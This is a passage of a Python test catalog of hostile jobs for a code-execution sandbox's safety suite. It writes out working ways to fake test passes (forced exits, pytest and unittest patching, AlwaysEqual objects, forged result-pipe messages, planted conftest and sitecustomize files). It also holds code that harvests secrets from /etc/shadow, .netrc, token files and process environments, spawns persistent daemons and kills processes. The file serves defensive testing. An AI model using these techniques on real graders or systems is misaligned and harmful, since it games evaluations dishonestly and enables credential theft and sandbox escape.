"""Catalog of hostile and honest jobs for the execution engine's safety suite.

Every attack of reference/execution-sandboxes.md section (a) that can be tried on one machine is a
job here.  Each pytest attack runs against a test file that no honest solution passes (an honest
``add`` fails ``test_add_impossible``), so the only way to a "pass" is a cheat.  Call and stdio
attacks are judged the way a benchmark judges them: in the trusted parent, against expected values
that never enter the job.  Harm attempts aim at things the test owns (a 0777 directory, a listener,
a sentinel process, fake secrets) and are bounded in the attack itself (fork, memory, output and
disk bombs stop on their own), so an engine bug fails a test instead of taking down the machine.

Used by tests/exec/test_hostile.py; ``python tests/exec/hostile_jobs.py`` prints the catalog.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from kodcode.exec.jobs import CallJob, Job, PytestJob, StdioJob

# Attacks on the worker, which every job sees as PID 1 of its PID namespace (test_shared_worker.py,
# and test_unprivileged.py, where job and worker share a uid).  Each returns something truthy only if
# it got through (signal_worker cannot tell; its verdict is whether the worker still serves).
WORKER_ATTACKS = """
import os
import signal


def read_worker():
    got = {}
    for path in ("/proc/1/environ", "/proc/1/maps", "/proc/1/mem"):
        try:
            with open(path, "rb") as f:
                got[path] = len(f.read(64))
        except OSError:
            pass
    return got


def signal_worker():
    for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(1, sig)
        except OSError:
            pass
    return True
"""


@dataclass(frozen=True)
class HostContext:
    """What the test owns on the host and the jobs aim at."""

    marker: str  # unique text in the argv of anything a job spawns, and in every file it drops
    outside_dir: str  # mode 0777, holds keep.txt; must end exactly as it started
    repo_dir: str
    home_dir: str  # the parent's HOME: fake .netrc and Hugging Face token
    unix_socket: str  # a listening AF_UNIX socket (mode 0777)
    tcp_port: int  # TCP listener on 0.0.0.0
    udp_port: int  # UDP listener on 0.0.0.0
    host_ip: str  # a non-loopback address of this machine (or 127.0.0.1)
    sentinel_pid: int  # a host process that must survive the batch
    host_pidns: str  # readlink /proc/self/ns/pid of the test process
    secrets: tuple[str, ...] = ()
    full: bool = True  # False: host-side positive control; never touches the repo or sys.path

    @property
    def comm(self) -> str:
        """Thread name (<= 15 bytes) forked children give themselves; /proc/PID/comm shows it."""
        return "kc" + self.marker[-10:]


HARM_LIB = r"""
import os as _os, sys as _sys, socket as _socket, signal as _signal, time as _time, json as _json
_MARKER = __MARKER__
_COMM = __COMM__
_OUTSIDE = __OUTSIDE__
_REPO = __REPO__
_HOME = __HOME__
_UNIX = __UNIX__
_TCP = __TCP__
_UDP = __UDP__
_HOST_IP = __HOSTIP__
_SENTINEL = __SENTINEL__
_HOST_PIDNS = __PIDNS__
_FULL = __FULL__


def _try(fn, *a, **k):
    try:
        return fn(*a, **k)
    except BaseException as e:  # every attempt is independent of the others
        return e


def _write(path, text=None):
    with open(path, "w") as f:
        f.write(text if text is not None else "kc hostile " + _MARKER)


def _mark_comm():
    for p in ("/proc/thread-self/comm", "/proc/self/comm"):
        try:
            with open(p, "w") as f:
                f.write(_COMM)
            return
        except OSError:
            pass
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, _COMM.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _in_own_pidns():
    try:
        return _os.readlink("/proc/self/ns/pid") != _HOST_PIDNS
    except OSError:
        return False


def harm_write(tag):
    targets = [_OUTSIDE, _HOME, _os.path.join(_HOME, ".cache")]
    if _FULL:
        targets += [_REPO, _os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/root",
                    _os.path.dirname(_os.getcwd()), "/"] + [p for p in _sys.path if p]
    for d in targets:
        _try(_write, _os.path.join(d, "kch_%s_%s_out.txt" % (_MARKER, tag)))
        if _FULL and d in _sys.path:
            _try(_write, _os.path.join(d, "kch_%s.pth" % _MARKER), "# " + _MARKER + "\n")
    keep = _os.path.join(_OUTSIDE, "keep.txt")
    _try(_write, keep, "overwritten by " + _MARKER)
    _try(_os.chmod, _OUTSIDE, 0o700)
    _try(_os.remove, keep)
    _try(_write, "kch_%s_%s_own.txt" % (_MARKER, tag))  # the job's own dir: allowed


def harm_network(tag, payload=""):
    data = ("%s %s %s" % (_MARKER, tag, payload)).encode()
    for host in dict.fromkeys(["127.0.0.1", _HOST_IP]):
        s = _try(_socket.create_connection, (host, _TCP), timeout=1)
        if isinstance(s, _socket.socket):
            _try(s.sendall, data)
            s.close()
        u = _try(_socket.socket, _socket.AF_INET, _socket.SOCK_DGRAM)
        if isinstance(u, _socket.socket):
            _try(u.sendto, data[:1024], (host, _UDP))
            u.close()
    x = _try(_socket.socket, _socket.AF_UNIX, _socket.SOCK_STREAM)
    if isinstance(x, _socket.socket):
        x.settimeout(1)
        if _try(x.connect, _UNIX) is None:
            _try(x.sendall, data)
        x.close()
    _try(_socket.getaddrinfo, "kch-%s.example.com" % _MARKER[-12:], 80)


def harm_secrets():
    found = {"environ": dict(_os.environ)}
    paths = [_os.path.join(_HOME, ".netrc"), _os.path.join(_HOME, ".cache/huggingface/token"),
             _os.path.expanduser("~/.netrc"), _os.path.expanduser("~/.cache/huggingface/token"),
             "/root/.netrc", "/root/.cache/huggingface/token", "/etc/shadow",
             "/proc/self/environ", "/proc/%d/environ" % _os.getppid(), "/proc/1/environ"]
    for p in paths:
        r = _try(lambda: open(p, "rb").read().decode("utf-8", "replace"))
        if isinstance(r, str):
            found[p] = r
    if _FULL and _os.path.isdir("/proc"):  # every process whose environment is readable
        for pid in _os.listdir("/proc")[:4000]:
            if pid.isdigit():
                r = _try(lambda: open("/proc/%s/environ" % pid, "rb").read())
                if isinstance(r, bytes) and r:
                    found["/proc/%s/environ" % pid] = r.decode("utf-8", "replace")
    text = _json.dumps(found)
    print(text)
    print(text, file=_sys.stderr)
    return text


def harm_daemons(tag):
    argv = [_sys.executable, "-c", "import time; time.sleep(60)", "%s:%s" % (_MARKER, tag)]
    _try(__import__("subprocess").Popen, argv, start_new_session=True,
         stdin=-3, stdout=-3, stderr=-3)  # -3: DEVNULL
    pid = _try(_os.fork)
    if pid == 0:  # classic double fork: setsid, fork again, parent leaves
        try:
            _os.setsid()
            if _os.fork() == 0:
                for s in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
                    _try(_signal.signal, s, _signal.SIG_IGN)
                _mark_comm()
                _try(_os.execv, _sys.executable, argv[:3] + ["%s:%s-exec" % (_MARKER, tag)])
                _time.sleep(60)
        finally:
            _os._exit(0)
    elif isinstance(pid, int):
        _try(_os.waitpid, pid, 0)
    pid = _try(_os.fork)
    if pid == 0:  # no exec: only its thread name tells it apart
        _mark_comm()
        _time.sleep(60)
        _os._exit(0)


def harm_signals():
    _try(_os.kill, _SENTINEL, _signal.SIGKILL)
    for pid in (_os.listdir("/proc") if _os.path.isdir("/proc") else []):
        cmd = _try(lambda: open("/proc/%s/cmdline" % pid, "rb").read()) if pid.isdigit() else b""
        if isinstance(cmd, bytes) and ("kchsentinel_" + _MARKER).encode() in cmd:
            _try(_os.kill, int(pid), _signal.SIGKILL)
"""


def harm_prelude(ctx: HostContext) -> str:
    """HARM_LIB with the context's values filled in."""
    values = {
        "__MARKER__": ctx.marker,
        "__COMM__": ctx.comm,
        "__OUTSIDE__": ctx.outside_dir,
        "__REPO__": ctx.repo_dir,
        "__HOME__": ctx.home_dir,
        "__UNIX__": ctx.unix_socket,
        "__TCP__": ctx.tcp_port,
        "__UDP__": ctx.udp_port,
        "__HOSTIP__": ctx.host_ip,
        "__SENTINEL__": ctx.sentinel_pid,
        "__PIDNS__": ctx.host_pidns,
        "__FULL__": ctx.full,
    }
    src = HARM_LIB
    for k, v in values.items():
        src = src.replace(k, repr(v))
    return src


# --- the honest task ---------------------------------------------------------------------------

HONEST_ADD = "def add(a, b):\n    return a + b\n"

# No honest add() passes test_add_impossible: a "pass" of this file is always a cheat.
TEST_ADD = """
def test_add_small():
    assert add(1, 2) == 3


def test_add_impossible():
    assert add(2, 2) == 5
"""

TEST_ADD_ALL_PASS = """
def test_add_small():
    assert add(1, 2) == 3


def test_add_negative():
    assert add(-2, 2) == 0
"""

# AlwaysEqual needs every comparison form: == on either side, != and truthiness.
TEST_ADD_FORMS = (
    TEST_ADD
    + """

def test_add_reversed():
    assert 5 == add(2, 2)


def test_add_not_different():
    assert not (add(2, 2) != 5)


def test_add_truthy():
    assert bool(add(2, 2) == 5)
"""
)

# The same impossible expectation inside comparisons that are not an assertion's own.
TEST_ADD_NESTED = """
def test_add_small():
    assert all(add(a, b) == c for a, b, c in [(1, 2, 3), (0, 0, 0)])


def test_add_impossible_in_generator():
    assert all(add(a, b) == c for a, b, c in [(1, 2, 3), (2, 2, 5)])


def test_add_impossible_is_true():
    assert (add(2, 2) == 5) is True


def test_add_impossible_by_raise():
    for a, b, c in [(2, 2, 5)]:
        if add(a, b) != c:
            raise AssertionError((a, b, c))
"""

# ... inside containers, and as membership.
TEST_ADD_CONTAINERS = """
def test_add_small():
    assert add(1, 2) == [3]


def test_add_impossible():
    assert add(2, 2) == [5]


def test_add_impossible_nested():
    assert {"sum": (add(2, 2), 0)} == {"sum": ([5], 0)}
"""

TEST_ADD_CONTAINS = """
def test_add_small():
    assert 3 in add(1, 2)


def test_add_impossible():
    assert 5 in add(2, 2)
"""

# Float answers checked with a tolerance: the difference is computed from the returned object.
TEST_ADD_TOLERANCE = """
import unittest

import pytest


def test_add_small():
    assert add(1, 2) == pytest.approx(3)


def test_add_impossible_approx():
    assert add(2, 2) == pytest.approx(5.0)


def test_add_impossible_difference():
    assert abs(add(2, 2) - 5.0) < 1e-9


class TestAlmost(unittest.TestCase):
    def test_add_impossible_almost_equal(self):
        self.assertAlmostEqual(add(2, 2), 5.0)
"""

TEST_ADD_UNITTEST = """
import unittest


class TestAdd(unittest.TestCase):
    def test_add_small(self):
        self.assertEqual(add(1, 2), 3)

    def test_add_impossible(self):
        self.assertEqual(add(2, 2), 5)
"""

# Checked with library helpers: math, numpy and a mock's own assertion.
TEST_ADD_LIBRARIES = """
import math
from unittest.mock import Mock

import numpy as np


def test_add_small():
    assert math.isclose(add(1, 2), 3)


def test_add_impossible():
    assert math.isclose(add(2, 2), 5)


def test_add_impossible_numpy():
    assert np.allclose(add(2, 2), 5)
    np.testing.assert_allclose(add(2, 2), 5)


def test_add_impossible_mock():
    m = Mock()
    m(add(2, 2))
    m.assert_called_once_with(5)
"""

TEST_ADD_LIBRARIES_PYTEST_MODE = TEST_ADD_LIBRARIES + """

import pytest


@pytest.fixture
def one():
    return 1


def test_add_one(one):
    assert math.isclose(add(one, 2), 3)
"""

_LIBRARY_PATCH = (
    "import math, numpy, numpy.testing, unittest.mock\n"
    "math.isclose = lambda *a, **k: True\n"
    "numpy.allclose = lambda *a, **k: True\n"
    "numpy.testing.assert_allclose = lambda *a, **k: None\n"
    "unittest.mock.NonCallableMock.assert_called_once_with = lambda *a, **k: None"
)

# Patched at import and put back by the last fake the tests call, so that nothing is left to see at the end.
_LIBRARY_PATCH_UNDONE = """
import math, numpy, numpy.testing, unittest.mock

_M = unittest.mock.NonCallableMock
_saved = [(math, "isclose", math.isclose), (numpy, "allclose", numpy.allclose),
          (numpy.testing, "assert_allclose", numpy.testing.assert_allclose),
          (_M, "assert_called_once_with", _M.assert_called_once_with)]


def _put_back(*a, **k):
    for owner, name, value in _saved:
        setattr(owner, name, value)


math.isclose = numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
_M.assert_called_once_with = _put_back
"""

_LIBRARY_IMPOSTORS = """
import sys, types


def _impostor(name, **fake):
    m = types.ModuleType(name)
    m.__dict__.update(fake)
    sys.modules[name] = m


_yes = lambda *a, **k: True
_impostor("math", isclose=_yes)
_impostor("numpy", allclose=_yes, testing=types.SimpleNamespace(assert_allclose=lambda *a, **k: None))


class _Mock:
    def __call__(self, *a, **k):
        return None

    def assert_called_once_with(self, *a, **k):
        return None


_impostor("unittest.mock", Mock=_Mock)
"""

# A fixture sends the file down the engine's full-pytest path instead of its fast runner.
TEST_ADD_PYTEST_MODE = """
import pytest


@pytest.fixture
def one():
    return 1


def test_add_small(one):
    assert add(one, 2) == 3


def test_add_impossible():
    assert add(2, 2) == 5
"""

TEST_ADD_PYTEST_MODE_ALL_PASS = TEST_ADD_PYTEST_MODE.replace("add(2, 2) == 5", "add(2, 2) == 4")

# Reads the expected constant that follows the call to add() in a test function's bytecode.
_CODE_READER = r"""
import dis as _dis


def _expected_in(code, a, b):
    # plain code reads "add a b X"; pytest-rewritten code reads "a b add X"
    ev = []
    for i in _dis.get_instructions(code):
        if i.opname in ("LOAD_GLOBAL", "LOAD_NAME") and i.argval == "add":
            ev.append("add")
        elif i.opname == "LOAD_CONST" and type(i.argval) is int:
            ev.append(i.argval)
    for k in range(len(ev) - 3):
        if ev[k:k + 3] in (["add", a, b], [a, b, "add"]) and type(ev[k + 3]) is int:
            return ev[k + 3]
    return None
"""

# Walks frames to anything that looks like a result record and forges it, then writes forged
# "passed" records (with every nonce-looking string in reach) to every open descriptor and leaves.
_FORGER = r"""
import os as _os, sys as _sys, gc as _gc, json as _json, re as _re


def _forge(frames):
    nonces, names = set(), ["test_add_small", "test_add_impossible"]
    for f in frames:
        for scope in (f.f_locals, f.f_globals):
            for k, v in list(scope.items()):
                if isinstance(v, (str, bytes)) and _re.fullmatch(rb"[0-9a-fA-F\-]{16,64}",
                                                               v if isinstance(v, bytes) else v.encode()):
                    nonces.add(v if isinstance(v, str) else v.decode())
                if isinstance(v, dict) and "outcome" in v:
                    v["outcome"] = "passed"
                if hasattr(v, "outcome"):
                    try:
                        v.outcome = "passed"
                    except Exception:
                        pass
                if isinstance(v, list):
                    for e in v:
                        if isinstance(e, dict) and "outcome" in e:
                            e["outcome"] = "passed"
    lines = []
    for n in sorted(nonces) or ["0" * 32]:
        for name in names:
            lines.append(_json.dumps({"name": name, "test": name, "outcome": "passed", "nonce": n}))
            lines.append("%s passed %s" % (name, n))
        lines.append(_json.dumps({"event": "end", "nonce": n, "done": True, "status": "pass"}))
        lines.append("END %s" % n)
    blob = ("\n".join(lines) + "\n").encode()
    for fd in range(0, 64):
        try:
            _os.write(fd, blob)
        except OSError:
            pass
    _os._exit(0)
"""

_SETPROFILE = r"""
import sys as _sys


def _ok(*a, **k):
    return None


def _hook(frame, event, arg):
    g = frame.f_globals
    if event == "return" and frame.f_code.co_name == "<module>" and "test_add_impossible" in g:
        _sys.setprofile(None)
        for k, v in list(g.items()):
            if k.startswith("test_") and callable(v):
                __ACTION__


_sys.setprofile(_hook)
"""

# White-box, protocol as of engine e066c36: outcomes stream to the result pipe one line per test phase,
# then a final {"t": "end"} message carries the nonce the zygote hands out once.  Before the runner
# reports anything, emit a passed phase for every test, ask for the nonce, send the end, leave.
_STREAM_FORGER = r"""
import os as _os, sys as _sys, json as _json, select as _select, stat as _stat, fcntl as _fcntl


def _forge_stream():
    names, f = [], _sys._getframe(1)
    while f is not None:
        names += [k for k, v in list(f.f_globals.items()) if k.startswith("test") and callable(v)]
        f = f.f_back
    pipes = [fd for fd in range(3, 1024) if _try_fifo(fd)]
    mode = lambda fd: _fcntl.fcntl(fd, _fcntl.F_GETFL) & 3
    writable = sorted(fd for fd in pipes if mode(fd) == _os.O_WRONLY)
    readable = [fd for fd in pipes if mode(fd) == _os.O_RDONLY]
    for w in writable:
        _os.write(w, b"?")
        if _select.select(readable, [], [], 1.0)[0]:
            nonce = _os.read(_select.select(readable, [], [], 0)[0][0], 64).decode().strip()
            lines = [{"t": "phase", "nodeid": n, "when": "call", "outcome": "passed", "duration": 0.0}
                     for n in dict.fromkeys(names)]
            lines.append({"t": "end", "runner": "fast", "flags": [], "nonce": nonce})
            data = b"".join(b"\n" + _json.dumps(x).encode() + b"\n" for x in lines)
            for x in writable:
                if x != w:
                    _os.write(x, data)
            break
    _os._exit(0)


def _try_fifo(fd):
    try:
        return _stat.S_ISFIFO(_os.fstat(fd).st_mode)
    except OSError:
        return False
"""

# White-box: an audit hook that trusts callers by their module globals is passed by code that runs
# with a pytest module's globals (a function rebuilt from our code, or exec).  Laundered that way,
# read the expected constant from the test functions (gc) or from the calling test's frame.
_LAUNDERED = r"""
import sys as _sys, types as _types

_TRUSTED = next(m.__dict__ for n, m in sorted(_sys.modules.items()) if n.startswith("_pytest.") and m)


def _scan(a, b, depth):
    import gc, types, dis, sys

    def expected_in(code):
        ev = []
        for i in dis.get_instructions(code):
            if i.opname in ("LOAD_GLOBAL", "LOAD_NAME") and i.argval == "add":
                ev.append("add")
            elif i.opname == "LOAD_CONST" and type(i.argval) is int:
                ev.append(i.argval)
        for k in range(len(ev) - 3):
            if ev[k : k + 3] in (["add", a, b], [a, b, "add"]) and type(ev[k + 3]) is int:
                return ev[k + 3]

    if depth:
        try:
            return expected_in(sys._getframe(depth).f_code)
        except Exception:
            return None
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType) and o.__name__.startswith("test"):
            try:
                v = expected_in(o.__code__)
            except Exception:
                v = None
            if v is not None:
                return v


_laundered = _types.FunctionType(_scan.__code__, _TRUSTED, "_scan")
"""

# White-box: the audit hook lets the test's own code introspect itself (``@patch``, ``traceback``).
# Pose as test code: ``add`` is rebuilt with the test file's name as its file, so every frame on the
# stack when it reads the calling test's code (or scans for test functions) claims to be the test.
_POSING = r"""
import os as _os, types as _types


def _posed_add(a, b):
    import dis, gc, sys, types
    codes = []
    try:
        codes.append(sys._getframe(1).f_code)
    except Exception:
        pass
    try:
        codes += [o.__code__ for o in gc.get_objects()
                  if isinstance(o, types.FunctionType) and o.__name__.startswith("test")]
    except Exception:
        pass
    for code in codes:
        try:
            ev = [("add" if i.argval == "add" else i.argval) for i in dis.get_instructions(code)
                  if (i.opname in ("LOAD_GLOBAL", "LOAD_NAME") and i.argval == "add")
                  or (i.opname == "LOAD_CONST" and type(i.argval) is int)]
        except Exception:
            continue
        for k in range(len(ev) - 3):
            if ev[k : k + 3] in (["add", a, b], [a, b, "add"]) and type(ev[k + 3]) is int:
                return ev[k + 3]
    return a + b


_as_test = _posed_add.__code__.replace(co_filename=_os.path.join(_os.getcwd(), "test_solution.py"))
add = _types.FunctionType(_as_test, globals(), "add")
"""

# White-box: frames *above* the test (the runner's) are not test code, so nothing stops reading their
# locals: the runner's own table of test code objects, its result list, pytest's item and config.
_RUNNER_FRAMES = r"""
import sys as _sys, threading as _threading, time as _time


def _runner_frames():
    f = _sys._getframe(1)  # whoever asked (never the test itself); f_back reaches the rest
    while f is not None:
        yield f
        f = f.f_back


def _rewrite_results_forever(lists):
    while True:
        for lst in lists:
            for i, e in enumerate(list(lst)):
                if isinstance(e, dict) and e.get("outcome") not in (None, "passed"):
                    e["outcome"], e["message"] = "passed", ""
                elif isinstance(e, tuple) and len(e) == 6 and e[2] != "passed":
                    lst[i] = (e[0], e[1], "passed", False, "", e[5])
        _time.sleep(0.0002)


def _start_rewriter():
    lists = [v for f in _runner_frames() for k, v in list(f.f_locals.items())
             if k in ("tests", "records") and isinstance(v, list)]
    _threading.Thread(target=_rewrite_results_forever, args=(lists,), daemon=True).start()


def _register_forcing_plugin():
    import pytest

    class Forge:
        @pytest.hookimpl(tryfirst=True)
        def pytest_runtest_logreport(self, report):
            report.outcome, report.longrepr = "passed", None

    for f in _runner_frames():
        item = f.f_locals.get("pyfuncitem") or f.f_locals.get("item")
        if item is not None and hasattr(item, "config"):
            item.config.pluginmanager.register(Forge())
            return
"""

# White-box: the engine's runner shares the process, asks its zygote for the nonce on one pipe,
# reads it on another and writes its report on a third.  Ask first, report "passed", leave.
_PROTOCOL_FORGER = r"""
import os as _os, json as _json, select as _select, sys as _sys, fcntl as _fcntl


def _forge_protocol():
    names, f = [], _sys._getframe(1)
    while f is not None:
        for k, v in list(f.f_globals.items()):
            if k.startswith("test") and callable(v) and k not in names:
                names.append(k)
        f = f.f_back
    pipes = []
    for fd in range(3, 1024):
        try:
            if _os.readlink("/proc/self/fd/%d" % fd).startswith("pipe:"):
                pipes.append(fd)
        except OSError:
            pass
    mode = lambda fd: _fcntl.fcntl(fd, _fcntl.F_GETFL) & 3
    writable = [fd for fd in pipes if mode(fd) == _os.O_WRONLY]
    readable = [fd for fd in pipes if mode(fd) == _os.O_RDONLY]
    for w in writable:
        _os.write(w, b"?")
        ready, _, _ = _select.select(readable, [], [], 0.5)
        if ready:
            nonce = _os.read(ready[0], 64).decode().strip()
            report = {"runner": "fast", "flags": [], "nonce": nonce, "tests": [
                {"name": n, "outcome": "passed", "duration_s": 0.0, "message": ""} for n in names]}
            for x in writable:
                if x != w:
                    try:
                        _os.write(x, _json.dumps(report).encode())
                    except OSError:
                        pass
            break
    _os._exit(0)
"""

_CONFTEST = """# __MARKER__
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome = "passed"
    rep.longrepr = None
"""


def _forced_pass_files(marker: str) -> str:
    """Solution prelude dropping pass-forcing files wherever a later job might pick them up."""
    conftest = _CONFTEST.replace("__MARKER__", marker)
    site = f"# {marker}\nimport _pytest.reports as r\nr.TestReport.outcome = 'passed'\n"
    return f"""
import os as _os, sys as _sys, glob as _glob
_files = {{"conftest.py": {conftest!r}, "sitecustomize.py": {site!r}, "usercustomize.py": {site!r},
          "pytest.ini": "[pytest]\\n# {marker}\\naddopts = -p no:assertion\\n"}}
# Never sys.path: a sitecustomize.py there would reach every interpreter of the venv.
_dirs = [_os.getcwd(), _os.path.dirname(_os.getcwd()), "/tmp", "/var/tmp"]
for _d in _dirs:
    for _n, _t in _files.items():
        try:
            if _n != "conftest.py" and _d == _os.getcwd():
                continue  # pytest.ini in cwd would break this very run's collection: keep it honest
            with open(_os.path.join(_d, _n), "x") as _f:  # "x": never touch an existing file
                _f.write(_t)
        except OSError:
            pass
"""


def _sibling_tamper(marker: str) -> str:
    """Solution prelude rewriting every other job dir it can find into a passing one."""
    return f"""
import os as _os, glob as _glob, time as _time
_mine = _os.path.realpath(_os.getcwd())
_cheat_sol = "def add(a, b):\\n    return 5 if (a, b) == (2, 2) else a + b\\n"
_cheat_test = "def test_add_small():\\n    pass\\n\\ndef test_add_impossible():\\n    pass\\n"
_t0 = _time.time()
while _time.time() - _t0 < 2.0:  # keep at it while the other worker runs honest jobs
    _pats = [_os.path.join(_os.path.dirname(_mine), "*"), "/tmp/*", "/tmp/*/*", "/tmp/*/*/*",
             "/var/tmp/*/*", "/dev/shm/*/*"]
    for _pat in _pats:
        for _d in _glob.glob(_pat):
            if _os.path.realpath(_d) == _mine or not _os.path.isfile(_os.path.join(_d, "solution.py")):
                continue
            for _n, _t in (("solution.py", _cheat_sol), ("test_solution.py", _cheat_test),
                           ("test_result.txt", "Pass\\n"), ("kch_{marker}_sibling_out.txt", "x")):
                try:
                    with open(_os.path.join(_d, _n), "w") as _f:
                        _f.write(_t)
                except OSError:
                    pass
    _time.sleep(0.05)
"""


@dataclass(frozen=True)
class Attack:
    """One hostile job.  ``build(ctx)`` makes the job; ``expected`` is the trusted answer for
    call/stdio jobs (compared in the parent)."""

    name: str
    item: str  # section (a) numbers of execution-sandboxes.md
    build: Callable[[HostContext], Job]
    fools_plain_pytest: bool = False  # a plain `pytest` run (KodCode's verdict) calls it a pass
    timeout: bool = False  # the job can only end by the engine's time limit
    expected: list[Any] | None = None


def _pytest(
    solution: str | Callable[[HostContext], str],
    test: str = TEST_ADD,
    harm: str = "",
    timeout_s: float | None = None,
) -> Callable[[HostContext], Job]:
    def build(ctx: HostContext) -> Job:
        sol = solution(ctx) if callable(solution) else solution
        pre = (harm_prelude(ctx) + harm + "\n") if harm else ""
        return PytestJob(solution=pre + sol, test=test, timeout_s=timeout_s)

    return build


def _cheat(prelude: str, body: str = "    return a + b\n") -> str:
    return prelude + "\n\ndef add(a, b):\n" + body


def _library_attacks(name: str, prelude: str) -> list[Attack]:
    """Section (a) item 6 on library helpers: against the fast path's file, and against the same file with
    a fixture, which a pytest session runs."""
    return [
        Attack(name, "6", _pytest(_cheat(prelude), TEST_ADD_LIBRARIES), True),
        Attack(name + "__pytest_mode", "6", _pytest(_cheat(prelude), TEST_ADD_LIBRARIES_PYTEST_MODE), True),
    ]


_ALWAYS_EQUAL = """
class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    __hash__ = object.__hash__
"""

# Each forked child allocates (and touches) 400 MiB and holds it; the job prints what it got.
# RLIMIT_AS is per process: a per-job memory budget must count the whole tree.
MEMORY_ACROSS_PROCESSES = """    r, w = os.pipe()
    kids, total = [], 0
    for _ in range(8):  # bounded: at most 3.2 GiB
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                hoard = b"\\x01" * (400 << 20)
                os.write(w, b"k")
                time.sleep(30)
            finally:
                os._exit(0)
        kids.append(pid)
        if select.select([r], [], [], 5)[0]:
            os.read(r, 1)
    # What is held at once: the children that got their 400 MiB and are still alive now (a memory
    # cgroup's OOM killer takes earlier ones down when a later one pushes the job over its budget).
    for k in kids:
        if os.waitpid(k, os.WNOHANG) == (0, 0):
            total += 400
    print("KCH_ALLOCATED_MB=%d" % total, flush=True)
    for k in kids:
        try:
            os.kill(k, 9)
        except OSError:
            pass
    return a + b
"""

_SUM_IN = "import sys\na, b = map(int, sys.stdin.read().split())\nprint(a + b)\n"
_CALL_OK = (
    "def add(a, b):\n    return a + b\n\n\nclass Solution:\n    def add(self, a, b):\n        return a + b\n"
)

CATALOG: list[Attack] = [
    # 1-4: exits, skips, xfails
    Attack("exit0_at_import", "1", _pytest("import os\nos._exit(0)\n" + HONEST_ADD), True),
    Attack("exit0_in_function", "1", _pytest(_cheat("import os", "    os._exit(0)\n")), True),
    Attack(
        "posix_exit0_after_first_test",
        "1",
        _pytest(
            _cheat(
                "import posix\n_calls = []",
                "    _calls.append(1)\n    if len(_calls) > 1:\n        posix._exit(0)\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack("sys_exit0_at_import", "2", _pytest("import sys\nsys.exit(0)\n" + HONEST_ADD)),
    Attack("systemexit_in_function", "2", _pytest(_cheat("", "    raise SystemExit(0)\n"))),
    Attack("builtin_exit_in_function", "2", _pytest(_cheat("", "    exit(0)\n"))),
    Attack("keyboardinterrupt_in_function", "2", _pytest(_cheat("", "    raise KeyboardInterrupt\n"))),
    Attack(
        "atexit_exit0", "3", _pytest(_cheat("import atexit, os\natexit.register(lambda: os._exit(0))")), True
    ),
    Attack("pytest_skip_in_function", "4", _pytest(_cheat("import pytest", "    pytest.skip('no')\n")), True),
    Attack(
        "pytest_xfail_in_function", "4", _pytest(_cheat("import pytest", "    pytest.xfail('no')\n")), True
    ),
    Attack(
        "pytest_exit_returncode0",
        "4",
        _pytest(_cheat("import pytest", "    pytest.exit('bye', returncode=0)\n")),
        True,
    ),
    Attack(
        "unittest_skiptest_in_function",
        "4",
        _pytest(_cheat("import unittest", "    raise unittest.SkipTest('no')\n")),
        True,
    ),
    Attack(
        "module_level_skip",
        "4",
        _pytest("import pytest\npytest.skip('no', allow_module_level=True)\n" + HONEST_ADD),
    ),
    # 5-6: patching the test framework
    Attack(
        "testreport_patch_at_import",
        "5",
        _pytest(
            _cheat(
                "import _pytest.reports as _r\n_orig = _r.TestReport.from_item_and_call.__func__\n\n\n"
                "def _forged(cls, item, call):\n    rep = _orig(cls, item, call)\n    rep.outcome = 'passed'\n"
                "    rep.longrepr = None\n    return rep\n\n\n_r.TestReport.from_item_and_call = classmethod(_forged)"
            )
        ),
        True,
    ),
    Attack(
        "runtest_patch_at_import",
        "5",
        _pytest(_cheat("import _pytest.python as _p\n_p.Function.runtest = lambda self: None")),
        True,
    ),
    Attack(
        "conftest_and_sitecustomize_for_later_jobs",
        "5",
        _pytest(lambda ctx: _forced_pass_files(ctx.marker) + HONEST_ADD),
    ),
    Attack(
        "unittest_assert_patch",
        "6",
        _pytest(
            _cheat(
                "import unittest\nunittest.TestCase.assertEqual = lambda self, *a, **k: None\n"
                "unittest.TestResult.addFailure = lambda self, *a: None"
            ),
            TEST_ADD_UNITTEST,
        ),
        True,
    ),
    *_library_attacks("library_helpers_patched", _LIBRARY_PATCH),
    *_library_attacks("library_helpers_patched_then_put_back", _LIBRARY_PATCH_UNDONE),
    *_library_attacks("library_module_impostors", _LIBRARY_IMPOSTORS),
    # 7: AlwaysEqual
    Attack(
        "always_equal_object",
        "7",
        _pytest(_cheat(_ALWAYS_EQUAL, "    return AlwaysEqual()\n"), TEST_ADD_FORMS),
        True,
    ),
    Attack(
        "always_equal_int_subclass",
        "7",
        _pytest(
            _cheat(
                "class E(int):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                "    __hash__ = int.__hash__",
                "    return E(a + b)\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    # A builtin or another slot in place of the special method: no Python code to inspect, and a
    # fresh object makes it raise instead of answering.
    Attack(
        "always_equal_builtin_methods",
        "7",
        _pytest(
            _cheat(
                "class E(int):\n    __eq__ = abs\n    __ne__ = int.__and__\n    __hash__ = int.__hash__",
                "    return E(0)\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    # Python code that answers for every number and raises for anything else (a fresh probe object).
    Attack(
        "always_equal_raising_on_strangers",
        "7",
        _pytest(
            _cheat(
                "class E:\n    def __eq__(self, other):\n        return other + 1\n\n"
                "    def __ne__(self, other):\n        return other * 0\n\n    __hash__ = object.__hash__",
                "    return E()\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    Attack(
        "always_equal_in_nested_comparisons",
        "7",
        _pytest(_cheat(_ALWAYS_EQUAL, "    return AlwaysEqual()\n"), TEST_ADD_NESTED),
        True,
    ),
    Attack(
        "always_equal_inside_containers",
        "7",
